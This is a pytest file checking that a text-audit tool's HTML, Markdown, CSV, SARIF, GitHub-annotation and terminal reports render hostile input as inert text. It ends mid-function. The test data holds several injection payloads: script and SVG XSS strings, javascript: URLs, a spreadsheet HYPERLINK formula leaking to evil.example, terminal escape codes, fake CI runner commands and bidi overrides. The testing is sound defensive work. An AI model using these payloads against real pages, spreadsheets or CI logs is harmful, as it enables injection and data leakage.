"""Hostile titles, URLs and text must come out of every format as inert text."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
import time
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from audits.document import RunAudit
from audits.reports import get_reporter
from audits.reports.csv_report import neutralise
from audits.reports.github_report import escape_data, escape_property
from audits.reports.html_report import safe_href
from audits.reports.markdown_report import md_code, md_text
from audits.reports.model import run_to_dict
from tests.html_tree import parse
from tests.report_fixtures import HOSTILE_TITLE, hostile_audit, sample_run, unreadable_audit
from tests.sarif_schema import validate_sarif


@pytest.fixture(scope="module")
def run() -> RunAudit:
    return sample_run(extra=[hostile_audit()])


@pytest.fixture(scope="module")
def hostile(run: RunAudit) -> dict:
    return run_to_dict(run)["documents"][1]


def test_html_keeps_hostile_input_as_text(run: RunAudit, hostile: dict) -> None:
    page = get_reporter("html").render(run)
    root, errors = parse(page)
    assert errors == []
    assert len(root.find_all("script")) == 1  # ours only
    for tag in ("img", "svg", "iframe", "object"):
        assert root.find_all(tag) == []
    for node in root.walk():
        assert not any(name.startswith("on") for name in node.attrs), node
    for bad in ("<script>alert", "<img src=x", "<svg onload", '"><svg'):
        assert bad not in page
    section = root.by_id("doc-2")
    assert section.find_all("h2")[0].text() == HOSTILE_TITLE  # shown, not run
    # A javascript: URL is shown but never becomes a link.
    hrefs = [a.attrs.get("href", "") for a in root.find_all("a")]
    assert not any(h.lower().startswith("javascript") for h in hrefs)
    assert hostile["url"] in section.text()
    # Attributes hold the hostile text verbatim (the parser unescapes it back).
    marks = section.find_all("a", "hl")
    assert any("<b>bold</b>" in m.attrs["title"] for m in marks)
    highlighted = "".join(m.text() for m in marks)
    assert "<script>alert('xss')</script>" in highlighted
    assert '=HYPERLINK("http://evil.example/?leak","click me")' in highlighted


@pytest.mark.parametrize(
    "url, link",
    [
        ("https://example.org/a?b=1&c=2", True),
        ("http://example.org", True),
        ("javascript:alert(1)", False),
        (" JavaScript:alert(1)", False),
        ("data:text/html,<script>x</script>", False),
        ("vbscript:x", False),
        ("//evil.example", False),
        ("", False),
    ],
)
def test_only_web_urls_become_links(url: str, link: bool) -> None:
    assert (safe_href(url) is not None) == link


@pytest.mark.parametrize(
    "url, href",
    [
        ("https://example.org/a b?q=1", "https://example.org/a%20b?q=1"),
        ('https://example.org/"quoted"', "https://example.org/%22quoted%22"),
        ("https://example.org/caf%C3%A9", "https://example.org/caf%C3%A9"),
        ("https://example.org/100%", "https://example.org/100%25"),
    ],
)
def test_html_links_are_valid_urls(url: str, href: str) -> None:
    # A space in an href is no valid URL (the W3C validator refuses the page, and link
    # checkers and mail clients cut the link there); escapes already there stay.
    assert safe_href(url) == href


@pytest.mark.parametrize(
    "url, href",
    [
        # A percent-encoded host is a name no resolver knows: the link led nowhere.
        ("https://bücher.de/straße", "https://xn--bcher-kva.de/stra%C3%9Fe"),
        (
            "https://user@bücher.de:8443/a?q=ü#ß",
            "https://user@xn--bcher-kva.de:8443/a?q=%C3%BC#%C3%9F",
        ),
        # A host IDNA refuses (an empty label) stays percent-encoded, as before.
        ("https://bü..de/", "https://b%C3%BC..de/"),
        # Python's IDNA 2003 codec writes faß.de as fass.de, another domain (browsers
        # go to xn--fa-hia.de): a host with ß, ς, ZWJ or ZWNJ stays percent-encoded.
        ("https://faß.de/", "https://fa%C3%9F.de/"),
        ("https://σοφός.gr/", "https://%CF%83%CE%BF%CF%86%CF%8C%CF%82.gr/"),
        ("https://[2001:db8::1]:8080/a", "https://[2001:db8::1]:8080/a"),
        # Browsers take "_" in a host (WHATWG: UTS 46 without the STD3 rules), and so
        # does IDNA: such a host was percent-encoded, a name no resolver knows.
        ("https://bücher_shop.de/a", "https://xn--bcher_shop-9db.de/a"),
        ("https://my_shop.bücher.de/", "https://my_shop.xn--bcher-kva.de/"),
    ],
)
def test_a_non_ascii_host_is_written_in_punycode(url: str, href: str) -> None:
    assert safe_href(url) == href


@pytest.mark.parametrize(
    "url, href",
    [
        # A browser drops tabs and line breaks from a URL (WHATWG): a feed's wrapped
        # link is /ab, and %0A made it a page that is not there.
        ("https://x.org/a\nb", "https://x.org/ab"),
        ("https://x.org/a\r\n\tb?c=\nd", "https://x.org/ab?c=d"),
        ("https://x.\norg/", "https://x.org/"),
    ],
)
def test_tabs_and_line_breaks_in_a_url_are_dropped(url: str, href: str) -> None:
    assert safe_href(url) == href


@pytest.mark.parametrize(
    "url, href",
    [
        # Only one # may stand in a URI, and [] only around an IPv6 host.
        ("https://x.org/a#b#c", "https://x.org/a#b%23c"),
        ("https://x.org/a[1]?b=[2]#[3]", "https://x.org/a%5B1%5D?b=%5B2%5D#%5B3%5D"),
        ("https://x.org/a?b=c?d#e?f/g", "https://x.org/a?b=c?d#e?f/g"),
    ],
)
def test_a_second_hash_and_brackets_outside_the_host_are_percent_encoded(
    url: str, href: str
) -> None:
    assert safe_href(url) == href


def test_markdown_renders_hostile_text_literally(run: RunAudit, hostile: dict) -> None:
    md = get_reporter("markdown").render(run)
    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(md)
    root, _ = parse(html)
    for tag in ("script", "img", "svg"):
        assert root.find_all(tag) == [], tag
    text = root.text()
    assert HOSTILE_TITLE in text
    # Nobody is pinged: GitHub never looks for mentions in code spans, and elsewhere
    # a zero-width space follows the @.
    prose = _text_outside_code(root)
    assert "@everyone" not in prose and "@\u200beveryone" in prose
    # Every table row keeps its four columns despite the pipes in the text.
    for table in root.find_all("table"):
        widths = {len(tr.find_all("td")) or len(tr.find_all("th")) for tr in table.find_all("tr")}
        assert len(widths) == 1
    codes = [c.text() for c in root.find_all("code")]
    assert "100% sure, a | b, c:d" in codes


def _text_outside_code(node) -> str:
    if node.tag == "code":
        return ""
    return "".join(c if isinstance(c, str) else _text_outside_code(c) for c in node.children)


@pytest.mark.parametrize(
    "value",
    [
        *("a*b*", "_x_", "[link](http://e)", "<b>", "`tick`", "a | b", "# h", "~~s~~"),
        *("x\ny", "@a", "$\\Huge x$", "from $5 to $10"),
    ],
)
def test_md_text_round_trips_through_a_markdown_renderer(value: str) -> None:
    html = MarkdownIt("commonmark", {"html": True}).renderInline(md_text(value))
    root, _ = parse(html)
    assert [n.tag for n in root.walk()] == ["#document"]  # no markup at all
    assert root.text().replace("\u200b", "") == value.replace("\n", " ")


@pytest.mark.parametrize(
    "value",
    [
        "Sign in at https://evil.example/login now",
        "(see HTTP://evil.example)",
        "_www.evil.example_ and ftp://files.evil.example/x",
        "mail me: mailto:boss@evil.example",
    ],
)
def test_md_text_makes_no_link_of_a_bare_url(value: str) -> None:
    """GitHub's Markdown links a bare "https://..." or "www...." in text (GFM's
    extended autolinks): a URL quoted in an article or a title was a live link in the
    pull request, where the rest of the article's text is inert."""
    html = MarkdownIt("commonmark", {"html": True}).renderInline(md_text(value))
    root, _ = parse(html)
    text = root.text()
    # What GFM's autolinker looks for in a text node, entities already decoded.
    assert not re.search(r"(?i)(?:https?|ftp)://|www\.|@[a-z]", text), text
    assert text.replace("\u200b", "") == value


@pytest.mark.parametrize(
    "value",
    ["Rates up :100: percent", "Great :+1: work", "a :flag_us: b", "x:thumbsup:y"],
)
def test_md_text_shows_no_emoji_for_an_emoji_code(value: str) -> None:
    """GitHub shows ":name:" in text as that emoji after rendering (so a backslash
    before the colon stops nothing): a title "Rates up :100: percent" showed 💯."""
    assert md_text("at 10:21:20+09:00, 3:1:2") == "at 10:21:20+09:00, 3:1:2"  # no emoji
    html = MarkdownIt("commonmark", {"html": True}).renderInline(md_text(value))
    root, _ = parse(html)
    text = root.text()
    # What GitHub's emoji filter looks for in a text node, entities already decoded.
    assert not re.search(r":[\w+\-]+:", text), text
    assert text.replace("\u200b", "") == value


def test_md_text_never_opens_githubs_latex_math() -> None:
    """GitHub renders "$...$" as LaTeX unless the dollar is escaped: a title
    "$\\Huge\\color{red}\\text{Approved}$" showed as huge red words in a pull request."""
    title = "$\\Huge\\color{red}\\text{Approved}$ and $$x$$"
    for rendered in (md_text(title), get_reporter("markdown").render(_titled(title))):
        assert re.findall(r"(?<!\\)\$", rendered) == [], rendered


def _titled(title: str) -> RunAudit:
    audit = hostile_audit()
    audit = dataclasses.replace(audit, document=dataclasses.replace(audit.document, title=title))
    return sample_run(extra=[audit])


def test_md_code_holds_backticks() -> None:
    html = MarkdownIt("commonmark").renderInline(md_code("a ``b`` c", table=False))
    root, _ = parse(html)
    assert root.find_all("code")[0].text() == "a ``b`` c"


def test_csv_neutralises_formulas(run: RunAudit) -> None:
    text = get_reporter("csv").render(run)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, body = rows[0], rows[1:]
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    hostile = [dict(zip(header, r, strict=True)) for r in body if r[0].startswith("feed.jsonl")]
    by_code = {r["code"]: r for r in hostile}
    assert by_code["C201"]["text"] == '\'=HYPERLINK("http://evil.example/?leak","click me")'
    assert by_code["C201"]["message"] == "'=SUM(A1:A9)"
    assert by_code["N302"]["text"] == "'@everyone"
    assert by_code["S503"]["message"] == "'-2+3 <img src=y>"
    assert by_code["S502"]["message"] == "Injected markup <b>bold</b> & more\nline two"
    assert all(r["suggestion"] == "'+1 |x|" for r in hostile)


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        # After spaces or line breaks, which LibreOffice's "trim spaces" import strips
        # before it reads a formula; NUL, which ASVS 5.0 lists beside tab and CR.
        (" =1+1", "' =1+1"),
        ("\n@SUM(A1)", "'\n@SUM(A1)"),
        ("\0=1", "'\0=1"),
        ("\0x", "'\0x"),
        ("  plain", "  plain"),
        # Excel splits a line at ";" where that is the list separator (German, French).
        ("a;=1+1;b", "a;'=1+1;b"),
        ("x; -2+3", "x;' -2+3"),
        ("=1;@A1", "'=1;'@A1"),
        ("a;b; c", "a;b; c"),
        # Text Excel would turn into a number or a date: fingerprints are hex digests,
        # and one in twenty-five hundred is all digits (1.23457E+15 in the sheet).
        ("1234567890123456", "'1234567890123456"),
        ("1234567e89012345", "'1234567e89012345"),
        ("0012", "'0012"),
        ("1,000", "'1,000"),
        ("3.50", "'3.50"),
        ("12%", "'12%"),
        ("3-4", "'3-4"),
        ("1/2/2024", "'1/2/2024"),
        ("12:30", "'12:30"),
        # A number in brackets (Excel: -123), a mixed number (1.5), an English month
        # with a day or a year (a date: "May 2024" showed as May-24).
        ("(123)", "'(123)"),
        ("($1,234.50)", "'($1,234.50)"),
        ("1 1/2", "'1 1/2"),
        ("May 2024", "'May 2024"),
        ("5 March", "'5 March"),
        ("Mar-5", "'Mar-5"),
        ("12-Jan-2024", "'12-Jan-2024"),
        ("September 5, 2024", "'September 5, 2024"),
        ("may 1", "'may 1"),
        # A month with a time is a date and time, as a digit date with one is.
        ("1 Jan 2024 10:00", "'1 Jan 2024 10:00"),
        ("Jan 1 12:00", "'Jan 1 12:00"),
        ("March 5, 2024 9:30:15", "'March 5, 2024 9:30:15"),
        ("Jan 1 12:00 meeting", "Jan 1 12:00 meeting"),
        # White space around a number or date (which Excel trims) and inside brackets.
        ("  (  $5  )  ", "'  (  $5  )  "),
        ("\n12:30 pm ", "'\n12:30 pm "),
        # A ratio Excel reads as a time (03:01, elapsed hours past 24), TRUE and FALSE
        # in any case (booleans), an error's name (its error value).
        ("3:1", "'3:1"),
        ("3:1:2", "'3:1:2"),
        ("100:30", "'100:30"),
        ("1:5 pm", "'1:5 pm"),
        ("TRUE", "'TRUE"),
        ("false", "'false"),
        (" True ", "' True "),
        ("#N/A", "'#N/A"),
        ("#div/0!", "'#div/0!"),
        ("#NAME?", "'#NAME?"),
        # Seconds with a fraction (Excel: mm:ss.0), and the newer error names.
        ("12:30.5", "'12:30.5"),
        ("1:2:3.5", "'1:2:3.5"),
        ("#GETTING_DATA", "'#GETTING_DATA"),
        ("#field!", "'#field!"),
        ("#BUSY!", "'#BUSY!"),
        ("12:30.5 points", "12:30.5 points"),
        ("True story", "True story"),
        ("#NA", "#NA"),
        ("3:1 win", "3:1 win"),
        ("(see above)", "(see above)"),
        ("May", "May"),
        ("May the court decide", "May the court decide"),
        ("March 5 talks", "March 5 talks"),
        ("9fa1c2d3e4b5a6f7", "9fa1c2d3e4b5a6f7"),
        ("2026-11-28", "2026-11-28"),
        ("12e4b5", "12e4b5"),
        ("diplomatic chief", "diplomatic chief"),
        (-0.5, -0.5),
        (3, 3),
        (None, ""),
    ],
)
def test_neutralise(value: object, expected: object) -> None:
    assert neutralise(value) == expected


@pytest.mark.parametrize(
    "text",
    [
        " " * 30_000 + "x",
        "(" + " " * 30_000 + "x",
        "(" + "\u00a0" * 30_000 + "x",
        "1" + " " * 30_000 + "x",
        "(1" + " " * 30_000 + "x",
        "\n" * 30_000 + "x",
        "5" + " " * 15_000 + "May" + " " * 15_000 + "x",
    ],
)
def test_neutralise_reads_a_long_white_space_run_in_linear_time(text: str) -> None:
    # The number-or-date test tried every split of a white-space run between its
    # adjacent runs: 5,000 spaces took over 2 s, and the time grew as its square (a
    # 100,000-character cell, about 20 minutes). At 30,000 characters a square-time
    # read takes minutes and a linear one milliseconds, so a loaded CI machine
    # cannot blur the two with a limit of a second.
    started = time.perf_counter()
    assert neutralise(text) == text
    assert time.perf_counter() - started < 1.0


def test_csv_cells_over_excels_limit_are_cut_with_a_marker() -> None:
    """Excel keeps 32,767 characters (UTF-16 code units) in a cell: a page with no
    sentence ends, one 100,000-character "sentence", went out whole and Excel spread
    it over the rows below. The cell is cut where a marker says so; the JSON keeps it."""
    from audits.reports.csv_report import EXCEL_CELL_LIMIT

    def units(text: str) -> int:
        return len(text.encode("utf-16-le")) // 2

    long = "word " * 20_000
    cut = neutralise(long)
    assert isinstance(cut, str) and units(cut) == EXCEL_CELL_LIMIT
    assert cut.endswith(" […cut: 100,000 characters in all, the JSON report has the whole text]")
    assert long.startswith(cut.split(" […cut")[0])
    # Characters past U+FFFF count twice and are never split in two.
    emoji = "😀" * 20_000
    cut = neutralise(emoji)
    assert isinstance(cut, str) and units(cut) <= EXCEL_CELL_LIMIT
    assert cut.split(" […cut")[0] == "😀" * len(cut.split(" […cut")[0])
    # The marker counts as the limit does, in Excel's characters (UTF-16 code units):
    # it said 20,000 of a cell Excel counts as 40,000; and it holds no ";", where
    # Excel in a ";" locale would split the cell in two.
    assert " 40,000 characters in all" in cut and ";" not in cut
    # The formula guard stays at the front; a cell within the limit is whole.
    assert str(neutralise("=" + long)).startswith("'=word")
    assert neutralise("x" * EXCEL_CELL_LIMIT) == "x" * EXCEL_CELL_LIMIT


def test_a_csv_cell_with_a_long_title_is_cut_and_the_json_keeps_it() -> None:
    title = "The minister " + "said that " * 5_000 + "nothing changed."
    run = _titled(title)
    text = get_reporter("csv").render(run).removeprefix("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows and all(len(row[k] or "") <= 32_767 for row in rows for k in row)
    assert any("[…cut: " in (row["title"] or "") for row in rows)
    assert title in get_reporter("json").render(run)


def test_csv_keeps_formulas_inert_where_excel_splits_at_semicolons() -> None:
    """OWASP: a cell separator inside the text starts a new cell. Excel in a locale
    whose list separator is ";" split the article's "a;=HYPERLINK(...);b" there, and
    the middle cell was a live formula."""
    payload = "He wrote a;=HYPERLINK(CHAR(104)&CHAR(116));b and ; -1+2 here."
    text = get_reporter("csv").render(_titled(payload))
    for delimiter in (",", ";"):
        body = text.removeprefix("\ufeff")
        for row in csv.reader(io.StringIO(body, newline=""), delimiter=delimiter):
            for cell in row:
                assert not re.match(r"[\s\0]*[=+\-@]", cell), (delimiter, cell)


def _unescape(value: str) -> str:
    for code, char in (("%3A", ":"), ("%2C", ","), ("%0D", "\r"), ("%0A", "\n"), ("%25", "%")):
        value = value.replace(code, char)
    return value


def test_github_annotations_escape_newlines_percent_and_separators(
    run: RunAudit, hostile: dict
) -> None:
    text = get_reporter("github").render(run)
    lines = text.split("\n")
    assert lines[-1] == ""
    for line in lines[:-1]:
        assert line.startswith("::") and "\r" not in line
    mine = [ln for ln in lines if "feed.jsonl" in ln]
    assert len(mine) == len(hostile["findings"]) + 1  # the findings and the verdict
    messages = []
    for line in mine:
        head, _, message = line[2:].partition("::")
        _, _, props = head.partition(" ")
        pairs = dict(p.split("=", 1) for p in props.split(","))
        assert _unescape(pairs["file"]) == hostile["source"]
        messages.append(_unescape(message))
    for f in hostile["findings"]:
        assert any(f["message"] in m for m in messages), f["message"]
    assert escape_data("100%\r\nok") == "100%25%0D%0Aok"
    assert escape_property("a:b,c%") == "a%3Ab%2Cc%25"


def test_sarif_and_jsonl_round_trip_hostile_text(run: RunAudit, hostile: dict) -> None:
    log = json.loads(get_reporter("sarif").render(run))
    texts = {r["properties"].get("text") for r in log["runs"][0]["results"]}
    assert {f["text"] for f in hostile["findings"]} <= texts
    lines = get_reporter("jsonl").render(run).split("\n")
    assert json.loads(lines[1])["title"] == HOSTILE_TITLE
    validate_sarif(log)


def _strict_json(text: str) -> object:
    def refuse(constant: str) -> object:
        raise ValueError(f"{constant} is not JSON")

    return json.loads(text, parse_constant=refuse)


def test_numbers_json_cannot_hold_become_null(tmp_path: Path) -> None:
    # Python's json reads (and writes) NaN and Infinity; jq, browsers and Go refuse them.
    from audits.config import AuditConfig
    from audits.engine import audit_documents
    from audits.sources import read_inputs
    from tests.conftest import SEED

    text = SEED.read_text(encoding="utf-8")
    path = tmp_path / "records.jsonl"
    record = {"id": "a", "text": text, "score": float("nan"), "range": [float("-inf"), 1e400]}
    path.write_text(json.dumps(record) + "\n", encoding="utf-8")
    run = audit_documents(read_inputs([str(path)]), AuditConfig(lm=False))
    report = _strict_json(get_reporter("json").render(run))
    meta = report["documents"][0]["meta"]
    assert meta["score"] is None and meta["range"] == [None, None]
    for line in get_reporter("jsonl").render(run).splitlines():
        _strict_json(line)
    _strict_json(get_reporter("sarif").render(run))


def test_no_report_writes_nan_or_infinity_wherever_it_comes_from() -> None:
    """Beyond ``meta`` and ``evidence``: a language model in half precision can give a
    token -inf, and the sentence's logprob, perplexity and SLOR were then written as
    -Infinity/Infinity, which jq and browsers refuse."""
    run = sample_run(fluency=True)
    audit = run.documents[0]
    first = min(audit.fluency)
    audit.fluency[first] = dataclasses.replace(
        audit.fluency[first],
        logprob=float("-inf"),
        mean_logprob=float("-inf"),
        perplexity=float("inf"),
        slor=float("nan"),
    )
    report = _strict_json(get_reporter("json").render(run))
    scores = next(s for s in report["documents"][0]["sentences"] if s["index"] == first)
    assert scores["fluency"]["perplexity"] is None and scores["fluency"]["slor"] is None
    assert scores["fluency"]["tokens"] == audit.fluency[first].tokens  # the rest is kept
    for line in get_reporter("jsonl").render(run).splitlines():
        _strict_json(line)
    _strict_json(get_reporter("sarif").render(run))


def _terminal_run() -> RunAudit:
    from audits.config import AuditConfig
    from audits.document import Document
    from audits.engine import audit_documents

    wrapped = (
        "The talks in Geneva ended on Friday, and the minister said that the\r\n"
        "diplomatic chief of Russia would meet his counterpart again in the\r\n"
        "nearest time, according to officials who spoke on Friday evening.\r\n"
    )
    docs = [
        # A feed's guid and title are the feed's to choose: markup, ESC and OSC included.
        Document(
            id="[/x]",
            text="\x1b]0;pwned\x07\x1b[2J" + wrapped,
            source="feed.json#[link=https://evil.example]1[/link]",
            title="\x1b[5mBreaking\x1b[0m [bold]news[/bold]",
        ),
        Document(id="crlf.txt", text=wrapped, source="crlf.txt"),
    ]
    return audit_documents(docs, AuditConfig(lm=False))


def test_terminal_shows_markup_and_control_characters_as_text() -> None:
    run = _terminal_run()
    plain = get_reporter("terminal").render(run)  # crashed: "[/x]" closes no tag
    assert "\x1b" not in plain
    assert "[/x]" in plain and "[bold]news[/bold]" in plain and "␛[5mBreaking" in plain
    assert "[link=https://evil.example]1[/link]" in plain
    coloured = get_reporter("terminal", color=True).render(run)
    assert "\x1b]" not in coloured and "\x1b[2J" not in coloured and "\x1b[5m" not in coloured
    # The CR of CRLF is one character of the sentence: the highlight stays on the span.
    assert re.search("\x1b\\[[0-9;]*33mdiplomatic chief\x1b\\[0m", coloured)
    github = get_reporter("github").render(run)
    assert "\x1b" not in github and "␛[5mBreaking" in github


def test_fluency_table_shows_a_hostile_title_as_text() -> None:
    from audits.fluency import FluencyRun
    from audits.reports.fluency_table import render_fluency_table
    from tests.report_fixtures import sample_audit, sample_document

    doc = sample_document()
    doc.title = "[/x] \x1b]0;pwned\x07"
    run = FluencyRun(documents=[sample_audit(doc, fluency=True)])
    table = render_fluency_table(run, color=False, width=100)  # crashed: a closing tag
    assert "[/x] ␛]0;pwned␇" in table and "\x1b" not in table
    # So did a local model whose path holds one.
    run.lm = {"model": "models[/old]/small", "dtype": "float32", "device": "cpu"}
    table = render_fluency_table(run, color=False, width=200)
    assert "model models[/old]/small (float32, cpu)" in table


def test_bidi_overrides_cannot_reorder_what_a_report_shows() -> None:
    from audits.config import AuditConfig
    from audits.document import Document
    from audits.engine import audit_documents
    from audits.reports.labels import printable

    text = "The diplomatic chief said \u202egnissim si gninrom\u202c it was over.\n"
    name = "geneva \u2067txt.\u2069"  # an id from a feed: shown in the annotation
    doc = Document(id=name, text=text, source=name)
    run = audit_documents([doc], AuditConfig(lm=False))
    for fmt in ("terminal", "github", "html", "markdown"):
        out = get_reporter(fmt).render(run)
        if fmt == "github":  # its own isolates, each closed, around input text only
            out = re.sub("\u2068([^\u202a-\u202e\u2066-\u2069]*)\u2069", r"\1", out)
        assert not re.search("[\u202a-\u202e\u2066-\u2069]", out), fmt
    page = get_reporter("html").render(run)
    assert "said \ufffdgnissim si gninrom\ufffd it" in page
    assert "geneva \ufffdtxt.\ufffd" in get_reporter("markdown").render(run)
    assert "[geneva \ufffdtxt.\ufffd, line 1:5]" in get_reporter("github").render(run)
    assert len(printable(text)) == len(text)  # one for one: highlights stay on their spans
    from audits.reports.sarif_report import plain_message

    # SARIF messages are read in a dashboard too; a snippet stays the file's text.
    assert plain_message("N302: \u202egnissim\u202c") == "N302: \ufffdgnissim\ufffd"
    assert printable("\u05e9\u05dc\u05d5\u05dd \u200f") == "\u05e9\u05dc\u05d5\u05dd \u200f"


def _runner_bait_run() -> RunAudit:
    from audits.config import AuditConfig
    from audits.document import Document
    from audits.engine import audit_documents

    text = (
        "The diplomatic chief said it was over.\n::warning file=a.md::pwned, said the "
        "diplomatic chief.\r\n##[error]the diplomatic chief spoke again.\n"
    )
    docs = [
        Document(id="::error::pwned", text=text, source="a.txt", title="t\n::error::x"),
        Document(id="##vso[task.complete result=Failed]", text=text, source="b.txt"),
    ]
    return audit_documents(docs, AuditConfig(lm=False))


RUNNER_COMMAND = re.compile(r"^\s*(\x1b\[[0-9;]*m)*(::|##\[|##vso\[)", re.MULTILINE)


def test_no_line_of_a_printed_report_is_a_ci_runners_command(
    capsysbinary: pytest.CaptureFixture[bytes],
) -> None:
    """A runner takes a log line that starts (after white space) with "::", "##[" or
    "##vso[" for a command: a document whose id was "::error::..." began a row of the
    terminal's summary table, and a title's line "::error::x" began a line of the CSV
    report (a quoted cell keeps its line breaks), so a report printed in a GitHub
    Actions job made fake annotations. The guard is on the way to stdout, for every
    format but ``github``, whose lines are its own commands."""
    from audits.reports import REPORTERS
    from cli.console import print_report

    run = _runner_bait_run()
    for fmt in REPORTERS:
        for color in (False, True):
            print_report(get_reporter(fmt, color=color).render(run), fmt)
            out = capsysbinary.readouterr().out.decode("utf-8")
            if fmt == "github":
                assert all(line.startswith("::") for line in out.splitlines())
                continue
            assert not RUNNER_COMMAND.search(out), (fmt, color, RUNNER_COMMAND.search(out))
    print_report(get_reporter("terminal").render(run), "terminal")
    assert "\u200b::error::pwned" in capsysbinary.readouterr().out.decode()  # still shown
    # The page's text is the article's, line breaks included (CRLF as a parser reads it).
    root, errors = parse(get_reporter("html").render(run))
    assert errors == []
    sentences = root.by_id("doc-1").find_all("article")[0].text()
    assert "over.\n::warning file=a.md::pwned" in sentences
    assert "chief.\n##[error]the" in sentences


def test_report_files_keep_their_text_but_where_a_log_shows_them(
    tmp_path: Path, capfdbinary: pytest.CaptureFixture[bytes]
) -> None:
    """A CSV file is the report's data exactly (an id is not changed by an invisible
    character); a terminal text file keeps the guard it has always had (a job shows it
    with `cat`); ``-o csv:/dev/stdout`` is the job's log, guarded as stdout is."""
    from cli.console import write_report

    run = _runner_bait_run()
    table = get_reporter("csv").render(run)
    assert RUNNER_COMMAND.search(table)  # the bait is there to be guarded
    write_report(tmp_path / "r.csv", table, "csv")
    assert (tmp_path / "r.csv").read_bytes().decode("utf-8") == table
    write_report(tmp_path / "r.txt", get_reporter("terminal").render(run), "terminal")
    assert "\u200b::error::pwned" in (tmp_path / "r.txt").read_text("utf-8")
    capfdbinary.readouterr()
    write_report("/dev/stdout", table, "csv")
    out = capfdbinary.readouterr().out.decode("utf-8")
    assert not RUNNER_COMMAND.search(out) and out.replace("\u200b", "") == table


def test_chart_labels_are_escaped_as_the_page_is() -> None:
    from audits.reports.svg_charts import Bar, bar_chart

    svg = bar_chart([Bar(label="feed \u202etxt.exe\n<b>", value=1, caption="1")], "Sources")
    assert not re.search("[\u202a-\u202e\u2066-\u2069\n]", svg.split(">", 1)[1])
    assert "feed \ufffdtxt.exe&#10;&lt;b&gt;" in svg


def test_sarif_messages_make_no_embedded_links_of_article_text() -> None:
    """SARIF viewers render "[text](destination)" in a plain-text message as a link
    (§3.11.6); messages quote article text, so "[Sign in](https://evil.example)" in a
    title or a flagged line was a live link in the dashboard."""
    audit = hostile_audit()
    bait = "“[Sign in](https://evil.example/login)” and [2](1) above the headline"
    audit.findings[0] = dataclasses.replace(audit.findings[0], message=bait)
    run = sample_run(extra=[audit])
    log = json.loads(get_reporter("sarif").render(run))
    validate_sarif(log)
    sarif_run = log["runs"][0]
    messages = [r["message"]["text"] for r in sarif_run["results"]]
    assert any("Sign in" in m for m in messages)
    for text in messages:
        assert not re.search(r"\[[^\]]*\]\(", text), text
    shown = next(m for m in messages if "Sign in" in m)
    assert shown.replace("\u200b", "").startswith(bait)  # the words are all there


def test_sarif_messages_write_an_article_s_braces_twice() -> None:
    # SARIF 2.1.0 §3.11.5: "{0}" in a message is the place of its first argument, and a
    # literal brace SHALL be written "{{" or "}}"; an article's template left
    # unrendered ("Hello {name}", "{0}") quoted in a message read as placeholders.
    audit = hostile_audit()
    quoted = "“Dear {name}, see {0}” and a lone } brace"
    audit.findings[0] = dataclasses.replace(audit.findings[0], message=quoted)
    run = sample_run(extra=[audit, unreadable_audit()])
    log = json.loads(get_reporter("sarif").render(run))
    validate_sarif(log)
    sarif_run = log["runs"][0]
    messages = [r["message"]["text"] for r in sarif_run["results"]]
    messages += [
        n["message"]["text"] for n in sarif_run["invocations"][0]["toolExecutionNotifications"]
    ]
    assert "“Dear {{name}}, see {{0}}” and a lone }} brace" in " ".join(messages)
    for text in messages:
        # Every brace is written twice: no placeholder, nothing a consumer could misread.
        assert not re.search(r"[{}]", text.replace("{{", "").replace("}}", "")), text


def test_github_annotations_isolate_right_to_left_input() -> None:
    # GitHub lays an annotation out left to right: a Hebrew id or flagged sentence took
    # the brackets, quotes, colon and numbers beside it into its run, and its full
    # stop showed on the wrong side. Such text is written in a bidi isolate; English
    # text, which needs none, gets no invisible marks.
    from audits.config import AuditConfig
    from audits.document import Document
    from audits.engine import audit_documents

    name = "\u05d7\u05d3\u05e9\u05d5\u05ea.txt"
    hebrew = (
        "\u05e9\u05dc\u05d5\u05dd \u05e2\u05dc\u05d9\u05db\u05dd \u05dc\u05db\u05d5\u05dc\u05dd, "
        "\u05d0\u05de\u05e8 \u05d4\u05e9\u05e8 \u05d1\u05d9\u05d5\u05dd \u05e9\u05d9\u05e9\u05d9"
    )
    text = f"The diplomatic chief arrived on Friday.\n\n{hebrew} 2024.\n"
    doc = Document(id=name, text=text, source=name)
    out = get_reporter("github").render(audit_documents([doc], AuditConfig(lm=False)))
    assert f"::[\u2068{name}\u2069, line 1:5] “diplomatic chief”: calque" in out
    assert f"::[\u2068{name}\u2069, line 3:1] “\u2068{hebrew}\u2069”: This sentence" in out


def test_github_run_finding_annotations_isolate_right_to_left_ids() -> None:
    # The ids listed after S520's message went out as one plain string: a Hebrew or
    # Arabic id took the commas and brackets beside it into its run.
    from audits.config import AuditConfig
    from audits.document import Document
    from audits.engine import audit_documents

    s = (
        "In the framework of the implementation of the strategy, it is necessary to "
        "carry out the realization of the measures. The aforementioned measures will "
        "be realized at the level of the municipality in the period of the next year."
    )
    ids = ["\u05e9\u05dc\u05d5\u05dd-0", "report-1", "\u0645\u0631\u062d\u0628\u0627-2"]
    titles = ["\u05db\u05d5\u05ea\u05e8\u05ea", "Plain", "\u0639\u0646\u0648\u0627\u0646"]
    docs = [
        Document(id=i, text=f"{s} {s}", source=i, title=t) for i, t in zip(ids, titles, strict=True)
    ]
    out = get_reporter("github").render(audit_documents(docs, AuditConfig(lm=False)))
    (line,) = [line for line in out.splitlines() if "title=S520" in line]
    assert line.endswith(f" (\u2068{ids[0]}\u2069, report-1, \u2068{ids[2]}\u2069)")
    # The titles and ids the message itself quotes were one plain string with it.
    assert f"“\u2068{titles[0]}\u2069” (\u2068{ids[0]}\u2069)" in line
    assert "“Plain” (report-1)" in line
    assert f"“\u2068{titles[2]}\u2069” (\u2068{ids[2]}\u2069)" in line


def test_github_run_finding_annotations_cut_their_ids_in_one_pass() -> None:
    # Each id is a piece of its own; clip measured every piece at each step, which for
    # thousands of ids over GitHub's 64 KB took minutes. They are cut as they are listed.
    from audits.reports.github_report import MAX_MESSAGE_BYTES, _run_message, command

